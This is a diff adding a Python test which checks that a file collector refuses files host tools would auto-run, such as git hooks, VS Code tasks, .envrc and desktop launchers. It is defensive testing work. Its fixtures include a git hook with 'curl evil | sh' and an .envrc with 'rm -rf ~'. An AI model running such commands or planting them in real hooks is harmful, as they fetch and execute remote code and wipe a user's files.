@@ -118,3 +118,21 @@ def test_usage_counts_blocks_and_stops_early(share):
     used, files = outputs.usage(share, stop_after_files=100)
     assert files == 10 and used >= 50000
     assert outputs.usage(share, stop_after_files=3)[1] == 4
+
+
+def test_files_that_host_tools_would_run_are_refused_at_any_depth(share, tmp_path):
+    (share / ".git" / "hooks").mkdir(parents=True)
+    (share / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
+    (share / "proj" / ".vscode").mkdir(parents=True)
+    (share / "proj" / ".vscode" / "tasks.json").write_text("{}")
+    (share / "proj" / ".envrc").write_text("rm -rf ~\n")
+    (share / "launch.desktop").write_text("[Desktop Entry]\nExec=sh\n")
+    (share / "proj" / "notes.git.txt").write_text("fine")
+    report = collect(share, tmp_path / "dest")
+    refused = dict(report.refused)
+    assert set(refused) == {".git", "proj/.vscode", "proj/.envrc", "launch.desktop"}
+    assert "git runs hooks" in refused[".git"] and "--accept-tool-files" in refused[".git"]
+    assert [f.path for f in report.files] == ["proj/notes.git.txt"]
+    assert not (tmp_path / "dest" / ".git").exists()
+    accepted = outputs.collect(share, tmp_path / "dest2", max_bytes=10**6, max_files=100, accept_tool_files=True)
+    assert accepted.refused == [] and (tmp_path / "dest2" / ".git" / "hooks" / "post-checkout").exists()
